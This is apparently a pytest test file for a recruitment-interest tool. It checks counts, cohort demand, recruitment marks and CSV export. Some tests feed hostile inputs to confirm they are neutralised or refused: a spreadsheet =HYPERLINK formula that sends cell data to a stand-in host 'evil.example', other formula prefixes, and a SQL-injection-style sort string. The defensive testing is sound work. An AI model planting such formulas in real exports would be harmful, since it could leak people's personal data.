"""Interest lists, demand against capacity, recruitment marks and the CSV export, checked against
the demo CSVs read independently; and the export's formula neutralisation (the bad fixture too)."""

from __future__ import annotations

import csv
import io
import re
import shutil
from collections import Counter
from datetime import date
from pathlib import Path

import pandas as pd
import pytest

from chatr import export, interest, plan_edits, rollout, suppression
from chatr.charts import interest as interest_charts
from chatr.filters import Filters
from tests.conftest import DATA, ROOT, demo_respondents, select

TODAY = date(2026, 11, 28)
LEAD = "test_lead"
STAGES = ("Perinatal", "0-5", "5-11", "11-19", "19-25")
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
FORMULA_FIXTURE = ROOT / "tests" / "fixtures" / "bad" / "formula_injection.csv"
FILTER_CASES = [
    ((), ()),
    (("Perinatal",), ()),
    (("0-5", "19-25"), ("Local authority",)),
    ((), ("Other",)),
    (("Perinatal",), ("School",)),  # nobody
]


def interested(stages=(), orgs=(), answers=("Yes", "Maybe")):
    return [r for r in select(demo_respondents(), stages, orgs) if r.interest in answers]


def demo_people() -> dict[str, dict[str, str]]:
    """E-mail -> the latest baseline row (name, team...), read with the csv module."""
    people: dict[str, dict[str, str]] = {}
    with open(DATA / "baseline.csv", newline="", encoding="utf-8") as handle:
        for row in csv.DictReader(handle):
            email = row["email"].strip().lower()
            if email not in people or row["submitted_at"] >= people[email]["submitted_at"]:
                people[email] = row
    return people


def ids_of(con, emails) -> list[int]:
    rows = interest.people(con, Filters(), page_size=None)
    return [int(i) for i in rows.set_index("email").loc[list(emails), "person_id"]]


# --- counts (what every role sees) ------------------------------------------------------------


@pytest.mark.parametrize(("stages", "orgs"), FILTER_CASES)
@pytest.mark.parametrize("answers", [("Yes", "Maybe"), ("Yes",), ("Maybe",)])
def test_summary_counts_match_the_demo_baseline(demo_con, stages, orgs, answers):
    people = interested(stages, orgs, answers)
    got = interest.summary(demo_con, Filters.of(stages, orgs), answers)
    assert got.interested == len(people)
    assert got.yes == sum(r.interest == "Yes" for r in people)
    assert got.maybe == sum(r.interest == "Maybe" for r in people)
    assert (got.invited, got.allocated) == (0, 0)


def test_the_demo_has_55_yes_and_33_maybe(demo_con):
    got = interest.summary(demo_con, Filters())
    assert (got.interested, got.yes, got.maybe) == (88, 55, 33)


@pytest.mark.parametrize(("stages", "orgs"), FILTER_CASES)
def test_demand_per_life_stage_matches_the_demo_baseline(demo_con, stages, orgs):
    demand = interest.demand(demo_con, Filters.of(stages, orgs), today=TODAY)
    assert list(demand["life_stage"]) == list(stages or STAGES)
    people = interested((), orgs)
    for row in demand.itertuples():
        in_stage = [r for r in people if row.life_stage in r.life_stages]
        assert row.n_interested == row.n_not_allocated == len(in_stage)
        assert row.n_yes == sum(r.interest == "Yes" for r in in_stage)
        assert row.n_maybe == sum(r.interest == "Maybe" for r in in_stage)


def test_no_demo_cohort_is_planned_after_today(demo_con):
    demand = interest.demand(demo_con, Filters(), today=TODAY)
    assert demand["next_cohort_label"].isna().all() and demand["next_places"].isna().all()


def test_demand_uses_the_next_planned_cohort_not_a_cancelled_or_later_one(fresh_con):
    plan_edits.add_cohort(fresh_con, LEAD, "Perinatal", 3, date(2027, 1, 4), date(2027, 1, 29), 12)
    plan_edits.add_cohort(fresh_con, LEAD, "Perinatal", 4, date(2027, 5, 3), date(2027, 5, 28), 9)
    plan_edits.add_cohort(fresh_con, LEAD, "0-5", 3, date(2026, 12, 7), date(2027, 1, 8), 10)
    plan_edits.add_cohort(fresh_con, LEAD, "0-5", 4, date(2027, 2, 1), date(2027, 2, 26), 11)
    zero_five = rollout.timeline(fresh_con, TODAY).set_index("cohort_label").loc["0-5 #3"]
    plan_edits.cancel_cohort(fresh_con, LEAD, int(zero_five.cohort_id))
    demand = interest.demand(fresh_con, Filters(), today=TODAY).set_index("life_stage")
    assert demand.loc["Perinatal", "next_cohort_label"] == "Perinatal #3"
    assert demand.loc["Perinatal", "next_places"] == 12
    assert demand.loc["0-5", "next_cohort_label"] == "0-5 #4"
    assert demand.loc["0-5", "next_places"] == 11
    assert demand.loc[["5-11", "11-19", "19-25"], "next_cohort_label"].isna().all()
    # On its first day a cohort is running, no longer the next planned one.
    later = interest.demand(fresh_con, Filters(), today=date(2027, 1, 4)).set_index("life_stage")
    assert later.loc["Perinatal", "next_cohort_label"] == "Perinatal #4"


# --- the list (personal data) and its pages ---------------------------------------------------


@pytest.mark.parametrize(("stages", "orgs"), FILTER_CASES)
def test_the_list_is_exactly_the_interested_respondents(demo_con, stages, orgs):
    rows = interest.people(demo_con, Filters.of(stages, orgs), page_size=None)
    expected = interested(stages, orgs)
    assert sorted(rows["email"]) == sorted(r.email for r in expected)
    assert (rows["n_total"] == len(expected)).all()
    people = demo_people()
    for row in rows.itertuples():
        source = people[row.email]
        # Ingest trims and collapses spaces in free text; a blank answer is stored as null.
        got = [v if isinstance(v, str) else "" for v in (row.name, row.team, row.interest)]
        assert got == [" ".join(source[k].split()) for k in ("name", "team", "interest")]
        assert row.life_stages.split("; ") == [
            s for s in STAGES if s in source["life_stages"].split(";")
        ]


def test_pages_cover_the_list_once_in_order(demo_con):
    whole = interest.people(demo_con, Filters(), page_size=None)
    pages = [interest.people(demo_con, Filters(), page=p, page_size=25) for p in (1, 2, 3, 4)]
    assert [len(p) for p in pages] == [25, 25, 25, 13]
    assert sum((list(p["email"]) for p in pages), []) == list(whole["email"])
    assert list(whole["name"].str.lower()) == sorted(whole["name"].str.lower())


def test_sort_by_answer_puts_yes_first(demo_con):
    rows = interest.people(demo_con, Filters(), sort_by="answer", page_size=None)
    assert list(rows["interest"]) == ["Yes"] * 55 + ["Maybe"] * 33


def test_an_unknown_sort_is_refused(demo_con):
    with pytest.raises(ValueError, match="sort by one of"):
        interest.people(demo_con, Filters(), sort_by="email; drop table person")


def test_organisation_other_shows_what_was_typed(demo_con):
    rows = interest.people(demo_con, Filters.of((), ["Other"]), page_size=None)
    people = demo_people()
    for row in rows.itertuples():
        typed = people[row.email]["organisation_other"].strip()
        assert row.organisation == (f"Other: {typed}" if typed else "Other")


# --- recruitment marks ----------------------------------------------------------------------


def planned_perinatal(con, places=3) -> int:
    return plan_edits.add_cohort(
        con, LEAD, "Perinatal", 3, date(2027, 1, 4), date(2027, 1, 29), places, "Online"
    )


def test_marks_show_in_the_list_counts_and_demand(fresh_con):
    cohort = planned_perinatal(fresh_con)
    perinatal = [r.email for r in interested(("Perinatal",))][:3]
    ids = ids_of(fresh_con, perinatal)
    interest.mark(fresh_con, LEAD, ids[:2], "allocated", cohort, TODAY)
    interest.mark(fresh_con, LEAD, ids[2:], "invited", cohort, TODAY)
    got = interest.summary(fresh_con, Filters())
    assert (got.invited, got.allocated) == (1, 2)
    demand = interest.demand(fresh_con, Filters(), today=TODAY).set_index("life_stage")
    assert demand.loc["Perinatal", "next_n_allocated"] == 2
    assert demand.loc["Perinatal", "next_places_left"] == 1
    expected_waiting = len(interested(("Perinatal",))) - 2
    assert demand.loc["Perinatal", "n_not_allocated"] == expected_waiting
    rows = interest.people(fresh_con, Filters(), page_size=None).set_index("email")
    assert list(rows.loc[perinatal, "mark_status"]) == ["allocated", "allocated", "invited"]
    assert set(rows.loc[perinatal, "mark_cohort"]) == {"Perinatal #3"}
    hidden = interest.people(fresh_con, Filters(), page_size=None, include_allocated=False)
    assert len(hidden) == 88 - 2 and not set(perinatal[:2]) & set(hidden["email"])
    interest.mark(fresh_con, LEAD, ids, "interested", None, TODAY)
    assert interest.summary(fresh_con, Filters()).allocated == 0


def test_allocating_beyond_the_places_is_refused(fresh_con):
    cohort = planned_perinatal(fresh_con, places=3)
    ids = ids_of(fresh_con, [r.email for r in interested(("Perinatal",))][:4])
    interest.mark(fresh_con, LEAD, ids[:2], "allocated", cohort, TODAY)
    with pytest.raises(plan_edits.PlanRefused) as refused:
        interest.mark(fresh_con, LEAD, ids[2:], "allocated", cohort, TODAY)
    assert str(refused.value) == (
        "Places: Perinatal #3 has 3 places and 2 already allocated, so 1 left: allocate fewer "
        "people, or add places by moving the cohort."
    )
    assert interest.summary(fresh_con, Filters()).allocated == 2
    # Re-marking those already allocated does not count them twice.
    interest.mark(fresh_con, LEAD, ids[:3], "allocated", cohort, TODAY)
    assert interest.summary(fresh_con, Filters()).allocated == 3


@pytest.mark.parametrize(
    ("who", "status", "which", "words"),
    [
        ("yes", "allocated", "past", "Perinatal #1 is over (ended 27 Nov 2020)"),
        ("yes", "invited", "cancelled", "is cancelled: choose a planned cohort"),
        ("yes", "invited", None, "Choose the cohort"),
        ("no", "invited", "planned", "1 of those chosen did not answer Yes or Maybe"),
        ("nobody", "invited", "planned", "Choose at least one person"),
        ("yes", "waitlisted", "planned", "'waitlisted' is not one of invited, allocated"),
    ],
)
def test_a_refused_mark_explains_itself_and_changes_nothing(fresh_con, who, status, which, words):
    cohorts = {"planned": planned_perinatal(fresh_con), None: None}
    cohorts["cancelled"] = plan_edits.add_cohort(
        fresh_con, LEAD, "0-5", 3, date(2027, 1, 4), date(2027, 1, 29)
    )
    plan_edits.cancel_cohort(fresh_con, LEAD, cohorts["cancelled"])
    cohorts["past"] = int(
        rollout.timeline(fresh_con, TODAY)
        .set_index("cohort_label")
        .loc["Perinatal #1", "cohort_id"]
    )
    said_no = next(r.email for r in demo_respondents() if r.interest == "No")
    no_id = fresh_con.execute("select person_id from person where email = ?", [said_no]).fetchall()
    people = {"yes": ids_of(fresh_con, [interested()[0].email]), "no": [no_id[0][0]]}
    people["nobody"] = []
    before = fresh_con.execute("select * from recruitment_mark").fetchall()
    with pytest.raises(plan_edits.PlanRefused, match=re.escape(words)):
        interest.mark(fresh_con, LEAD, people[who], status, cohorts[which], TODAY)
    assert fresh_con.execute("select * from recruitment_mark").fetchall() == before


def test_open_cohorts_are_planned_or_running_and_not_cancelled(fresh_con):
    assert interest.open_cohorts(fresh_con, TODAY).empty
    planned_perinatal(fresh_con)
    assert list(interest.open_cohorts(fresh_con, TODAY)["cohort_label"]) == ["Perinatal #3"]
    assert list(interest.open_cohorts(fresh_con, date(2027, 1, 29))["status"]) == ["running"]
    assert interest.open_cohorts(fresh_con, date(2027, 1, 30)).empty


# --- the CSV export ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(1,2)", "'+SUM(1,2)"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+9)", "'@SUM(1+9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\rcmd", "'\rcmd"),
        ("Rebecca Smith", "Rebecca Smith"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (float("nan"), ""),
        (-3, "'-3"),
        (7, "7"),
        (["Perinatal", "0-5"], "Perinatal; 0-5"),
    ],
)
def test_neutralise(cell, written):
    assert export.neutralise(cell) == written


def read_back(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with a BOM, so Excel reads it as UTF-8"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_the_formula_injection_fixture_comes_out_neutralised():
    with open(FORMULA_FIXTURE, newline="", encoding="utf-8") as handle:
        source = list(csv.reader(handle))
    back = read_back(export.csv_bytes(source[0], source[1:]))
    assert len(back) == len(source)
    n_neutralised = 0
    for original_row, written_row in zip(source, back, strict=True):
        for original, written in zip(original_row, written_row, strict=True):
            assert not written.startswith(DANGEROUS), written
            if original.startswith(DANGEROUS):
                assert written == "'" + original
                n_neutralised += 1
            else:
                assert written == original
    # The fixture carries =HYPERLINK, +SUM, @SUM, -2+3 and a tab before =1+1.
    assert n_neutralised == 5


def test_an_export_of_hostile_names_is_neutralised(fresh_con):
    email = interested()[0].email
    fresh_con.execute(
        "update person set name = ?, team = ? where email = ?",
        ['=HYPERLINK("https://evil.example/?d="&B2,"Click")', "@SUM(1+9)", email],
    )
    data, n_rows = export.interest_csv(fresh_con, Filters())
    back = read_back(data)
    assert n_rows == len(back) - 1 == 88
    hostile = next(row for row in back if row[1] == email)
    assert hostile[0] == '\'=HYPERLINK("https://evil.example/?d="&B2,"Click")'
    assert hostile[2] == "'@SUM(1+9)"
    assert not any(cell.startswith(DANGEROUS) for row in back for cell in row)


@pytest.mark.parametrize(("stages", "orgs"), FILTER_CASES)
def test_the_export_has_the_same_rows_as_the_list(demo_con, stages, orgs):
    filters = Filters.of(stages, orgs)
    back = read_back(export.interest_csv(demo_con, filters)[0])
    assert back[0] == list(interest.EXPORT_COLUMNS.values())
    rows = interest.people(demo_con, filters, page_size=None)
    assert [r[1] for r in back[1:]] == list(rows["email"])


# --- the command line -------------------------------------------------------------------------


@pytest.fixture
def cli_home(demo_home, tmp_path, monkeypatch) -> Path:
    shutil.copyfile(demo_home / "chatr.duckdb", tmp_path / "chatr.duckdb")
    monkeypatch.setenv("CHATR_HOME", str(tmp_path))
    return tmp_path


def test_cli_export_interest_writes_the_filtered_rows(cli_home, capsys):
    from chatr.cli import main

    out = cli_home / "perinatal-yes.csv"
    argv = ["export-interest", "--life-stage", "Perinatal", "--answer", "Yes", "--out", str(out)]
    assert main(argv) == 0
    expected = interested(("Perinatal",), (), ("Yes",))
    back = read_back(out.read_bytes())
    assert sorted(r[1] for r in back[1:]) == sorted(r.email for r in expected)
    assert Counter(r[5] for r in back[1:]) == {"Yes": len(expected)}
    assert f"Wrote {len(expected)} people (Yes)" in capsys.readouterr().out


def test_cli_export_interest_defaults_to_yes_and_maybe(cli_home):
    from chatr.cli import main

    out = cli_home / "all.csv"
    assert main(["export-interest", "--organisation", "School", "--out", str(out)]) == 0
    assert len(read_back(out.read_bytes())) - 1 == len(interested((), ("School",)))


@pytest.mark.parametrize(
    "argv",
    [
        ["export-interest", "--life-stage", "Teens", "--out", "x.csv"],
        ["export-interest", "--answer", "No", "--out", "x.csv"],
        ["export-interest"],
    ],
)
def test_cli_export_interest_usage_errors_exit_2(cli_home, argv):
    from chatr.cli import main

    with pytest.raises(SystemExit) as usage:
        code = main(argv)
        raise SystemExit(code)
    assert usage.value.code == 2
    assert not (Path.cwd() / "x.csv").exists()


def test_the_demand_chart_says_where_no_cohort_is_planned(fresh_con):
    plan_edits.add_cohort(fresh_con, LEAD, "Perinatal", 3, date(2027, 1, 4), date(2027, 1, 29), 12)
    demand = interest.demand(fresh_con, Filters(), today=TODAY)
    figure = interest_charts.demand_bars(demand, 88, Filters(), ("Yes", "Maybe"))
    interested_bars, places = figure.data
    assert list(interested_bars.y) == list(reversed(STAGES))
    expected = {s: sum(s in r.life_stages for r in interested()) for s in STAGES}
    assert list(interested_bars.text) == [f"{expected[s]} interested" for s in reversed(STAGES)]
    assert list(places.text) == ["no cohort planned"] * 4 + ["12 places: Perinatal #3, 04 Jan 2027"]
    assert figure.layout.title.subtitle.text.startswith("n = 88 people interested")


def test_unplanned_names_the_stages_waiting_for_a_cohort_with_their_counts():
    demand = pd.DataFrame(
        {
            "life_stage": ["Perinatal", "0-5", "5-11", "19-25"],
            "n_interested": [12, 3, 0, 7],
            "next_cohort_label": [None, None, None, "19-25 #3"],
        }
    )
    assert interest.unplanned(demand) == "Perinatal (12 interested); 0-5 (3 interested)"
    board = suppression.suppress(demand, count_column="n_interested", value_columns=())
    assert interest.unplanned(board) == "Perinatal (12 interested); 0-5 (<5 interested)"
    assert interest.unplanned(demand.assign(next_cohort_label="x #1")) is None
